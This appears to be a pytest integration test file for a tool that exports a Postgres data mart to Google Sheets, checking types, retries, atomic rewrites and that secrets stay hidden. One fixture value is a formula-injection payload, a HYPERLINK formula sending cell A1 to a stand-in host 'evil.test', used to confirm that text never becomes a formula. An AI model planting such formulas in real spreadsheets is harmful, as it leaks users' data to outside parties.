"""`wandle sheets`: a mart in a Google Sheet, against a stand-in that speaks the API's HTTP."""

from __future__ import annotations

import io
import json
import sys
from collections.abc import Callable, Iterator
from datetime import date
from typing import Any

import pytest

from include.sheets import cells, client
from include.sheets.tab import HIDDEN
from tests.integration.conftest import serving
from tests.sheets_server import EMAIL, SPREADSHEET, Google, Tab, new_key

MART = "weather_daily"
ADDRESS = f"https://docs.google.com/spreadsheets/d/{SPREADSHEET}/edit#gid=0"
HOSTILE = '=HYPERLINK("https://evil.test?x="&A1, "click")'

Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def google(monkeypatch) -> Iterator[Google]:
    found = Google()
    with serving(found.app) as url:
        monkeypatch.setattr(client, "API", f"{url}/v4/spreadsheets")
        monkeypatch.setattr(client, "TOKEN_URL", f"{url}/token")
        yield found


@pytest.fixture
def mart(warehouse) -> Iterator[Any]:
    """A mart with a row of every type that marts have."""
    warehouse.query(
        f"create table marts.{MART} (council text, day date, places bigint, mean numeric(8, 1),"
        " rain numeric, share double precision, is_wet boolean, changed_at timestamptz,"
        " parts jsonb, primary key (council, day))",
        role="wandle_transformer",
    )
    warehouse.query(
        f"insert into marts.{MART} values"
        " ('sutton', '2026-10-02', 3, 9.5, 12.333333333333333333333, 0.5, true,"
        "  '2026-10-02 12:00+01', '{\"a\": 1}'),"
        f" ('{HOSTILE}', '2026-10-01', 9007199254740993, -1, null, 'NaN', false, null, null),"
        " ('+44 20', '1850-01-01', 0, null, 0, 0, null, null, '[\"x\"]')",
        role="wandle_transformer",
    )
    yield warehouse
    warehouse.query(f"drop table if exists marts.{MART}", role="wandle_transformer")


@pytest.fixture
def run(wandle, google, mart, monkeypatch) -> Run:
    """Runs `wandle sheets` with the key of the stand-in's account."""
    monkeypatch.setenv("WANDLE_WAREHOUSE_DSN", mart.dsn("wandle_reader"))
    set_key(wandle, monkeypatch, json.dumps(google.key, indent=2))

    def go(*arguments: str) -> tuple[int, str, str]:
        found = wandle("sheets", *(arguments or (MART, ADDRESS)))
        for secret in ("PRIVATE KEY", google.key["private_key"][40:80], "ya29."):
            assert secret not in found[1] + found[2]
        return found

    return go


def set_key(wandle: Any, monkeypatch: Any, content: str) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO(content))
    code, _, err = wandle("secrets", "set", "google_sheets")
    assert code == 0, err


def test_a_mart_is_written_with_its_types_and_text_never_becomes_a_formula(run, google):
    code, out, err = run()

    assert (code, err) == (0, "")
    assert f"Wrote 3 rows of marts.{MART} to the tab '{MART}' of 'Council data'" in out
    tab = google.tab(MART)
    heading, *rows = tab.values()
    assert heading == [
        "council", "day", "places", "mean", "rain", "share", "is_wet", "changed_at", "parts",
    ]  # fmt: skip
    by_council = {row[0]: row[1:] for row in rows}
    assert list(by_council) == sorted(by_council)
    serial = (date(2026, 10, 2) - date(1899, 12, 30)).days
    assert by_council["sutton"] == [
        serial, 3, 9.5, 12.333333333333334, 0.5, True, serial + 11 / 24, '{"a": 1}',
    ]  # fmt: skip
    # Numbers that no double holds, days before its calendar and NaN are text.
    assert by_council[HOSTILE] == [serial - 1, "9007199254740993", -1, None, "NaN", False] + (
        [None] * 2
    )
    assert by_council["+44 20"][0] == "1850-01-01"
    assert tab.formulas == 0
    assert tab.formats[1, 1]["numberFormat"]["pattern"] == "yyyy-mm-dd"
    assert tab.formats[0, 0]["textFormat"] == {"bold": True}
    assert (tab.frozen, tab.hidden, tab.marks) == (1, False, {"wandle": f"marts.{MART}"})
    assert [tab.title for tab in google.tabs] == ["Sheet1", MART]


def test_fewer_rows_leave_nothing_behind_and_the_tab_stays_itself(run, google, mart):
    run()
    number = google.tab(MART).number
    mart.query(f"delete from marts.{MART} where council <> 'sutton'")

    code, _, err = run()

    assert (code, err) == (0, "")
    tab = google.tab(MART)
    assert tab.number == number
    assert [row[0] for row in tab.values()] == ["council", "sutton"]
    assert tab.rows >= 4
    mart.query(f"delete from marts.{MART}")
    assert run()[0] == 0
    assert len(google.tab(MART).values()) == 1


def test_readers_see_the_old_rows_or_the_new_ones_and_nothing_between(
    run, google, mart, monkeypatch
):
    monkeypatch.setattr(cells, "_MOST_CELLS_SENT", 20)
    run()
    mart.query(f"update marts.{MART} set places = 7")
    seen = []
    google.watch = lambda: seen.append(tuple(row[2] for row in google.tab(MART).values()[1:]))

    assert run()[0] == 0

    assert google.asked.count("values") >= 4
    assert len(set(seen)) == 2
    assert {len(rows) for rows in seen} == {3}
    changes = [place for place in range(1, len(seen)) if seen[place] != seen[place - 1]]
    assert len(changes) == 1
    assert seen[-1] == (7, 7, 7)


@pytest.mark.parametrize("kind", ["get", "values", "change"])
@pytest.mark.parametrize(("status", "done_anyway"), [(429, False), (503, False), (503, True)])
def test_a_temporary_failure_is_retried(run, google, kind, status, done_anyway):
    google.faults[kind] = [(status, done_anyway)] * 2

    code, out, err = run()

    assert (code, err) == (0, "")
    assert "Wrote 3 rows" in out
    assert len(google.tab(MART).values()) == 4
    assert [tab.title for tab in google.tabs] == ["Sheet1", MART]


def test_a_failure_that_lasts_is_named_and_leaves_the_old_rows(run, google, mart):
    run()
    mart.query(f"update marts.{MART} set places = 7")
    before = google.tab(MART).values()
    google.faults["values"] = [(503, False)] * 50

    code, _, err = run()

    assert code == 1
    assert "HTTP 503 from Google" in err
    assert "Try again later" in err
    assert google.tab(MART).values() == before
    assert [tab.title for tab in google.tabs] == ["Sheet1", MART]


def test_what_an_interrupted_run_left_is_removed(run, google):
    google.tabs.append(Tab(77, HIDDEN + MART, 5, 5, hidden=True))

    assert run()[0] == 0

    assert [tab.title for tab in google.tabs] == ["Sheet1", MART]


def test_a_tab_with_something_else_in_it_is_replaced_only_on_request(run, google):
    google.tabs.append(Tab(5, "Notes", cells={(0, 0): {"stringValue": "mine"}}))
    choice = (MART, SPREADSHEET, "--tab", "Notes")

    code, _, err = run(*choice)

    assert code == 1
    assert "the tab 'Notes' was not written by Wandle" in err
    assert google.tab("Notes").values() == [["mine"]]
    assert run(*choice, "--replace")[0] == 0
    assert len(google.tab("Notes").values()) == 4
    assert run(*choice)[0] == 0


def test_a_spreadsheet_that_would_be_too_large_is_refused_before_anything_is_written(run, google):
    google.tabs[0].rows, google.tabs[0].columns = 1_000_000, 10

    code, _, err = run()

    assert code == 1
    assert "A spreadsheet holds 10,000,000, and this one has 10,000,000 already" in err
    assert google.asked.count("change") == 0


def test_a_value_too_long_for_a_cell_is_refused_by_its_column(run, google, mart):
    mart.query(f"update marts.{MART} set parts = to_jsonb(repeat('x', 50001))")

    code, _, err = run()

    assert code == 1
    assert "parts (50,003)" in err
    assert "xxx" not in err
    assert google.asked == []


def test_pairs_of_surrogates_count_twice_as_google_counts_them(run, google, mart):
    mart.query(f"update marts.{MART} set parts = to_jsonb(repeat('\U0001f600', 25001))")

    code, _, err = run()

    assert code == 1
    assert "parts (50,0" in err
    assert [tab.title for tab in google.tabs] == ["Sheet1"]


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (("raw.weather_hourly", SPREADSHEET), "is not a mart"),
        (("stg_weather__hourly", SPREADSHEET), "is not a mart"),
        (("weather_dally", SPREADSHEET), "Did you mean weather_daily"),
        (("ward_crime_monthly", SPREADSHEET), "wandle transform"),
        ((MART, SPREADSHEET, "--tab", "x" * 81), "cannot be the name of a tab"),
        ((MART, "my sheet"), "is not a spreadsheet"),
        ((MART, "https://example.test/1"), "is not a spreadsheet"),
        ((MART, "1another_Spreadsheet_0123456789"), f"Share the spreadsheet with {EMAIL}"),
    ],
)
def test_a_wrong_name_is_refused_with_what_to_do(run, google, arguments, says):
    code, _, err = run(*arguments)

    assert code == 1
    assert says in err
    assert google.asked.count("change") == 0


def test_a_spreadsheet_that_is_not_shared_names_the_account_to_share_it_with(run, google):
    google.is_shared = False

    code, _, err = run()

    assert code == 1
    assert "HTTP 403" in err
    assert EMAIL in err


def test_a_key_that_google_does_not_know_is_refused_without_being_shown(
    run, wandle, google, monkeypatch
):
    set_key(wandle, monkeypatch, json.dumps(Google(private_key=new_key()).key))

    code, _, err = run()

    assert code == 1
    assert f"Google refuses the key of {EMAIL}" in err


@pytest.mark.parametrize(
    "content",
    ["not json", "[]", '{"client_email": "x@y"}', '{"client_email": "x", "private_key": "k3yyyy"}'],
)
def test_a_secret_that_is_not_a_key_is_refused_without_being_shown(
    run, wandle, monkeypatch, content
):
    set_key(wandle, monkeypatch, content)

    code, _, err = run()

    assert code == 1
    assert "service account" in err
    assert "k3yyyy" not in err


def test_without_a_key_it_says_how_to_set_one(run, wandle):
    wandle("secrets", "remove", "google_sheets")

    code, _, err = run()

    assert code == 1
    assert "wandle secrets set google_sheets < key.json" in err


def test_a_personal_column_is_refused(run, google, mart, monkeypatch):
    from include.jobs.serving import tables

    described = tables.described_models()[MART]
    personal = {**described.columns, "mean": {"personal": "keep"}}
    changed = type(described)("marts", "", described.sources, personal)
    monkeypatch.setattr(tables, "described_models", lambda: {MART: changed})

    code, _, err = run()

    assert code == 1
    assert "columns that are or may be personal: mean" in err
    assert google.asked == []


def test_it_reads_as_the_role_that_sees_only_marts(run, mart, monkeypatch):
    monkeypatch.setenv("WANDLE_LOADER_DSN", "postgresql://nobody@127.0.0.1:1/none")

    assert run()[0] == 0


def test_the_stand_in_would_show_a_formula_that_is_not_sent_raw(google):
    google.tabs[0].title = "A"
    body = {"valueInputOption": "USER_ENTERED", "data": [{"range": "'A'!A1", "values": [["=1+1"]]}]}
    google._written(body)

    assert google.tabs[0].formulas == 1
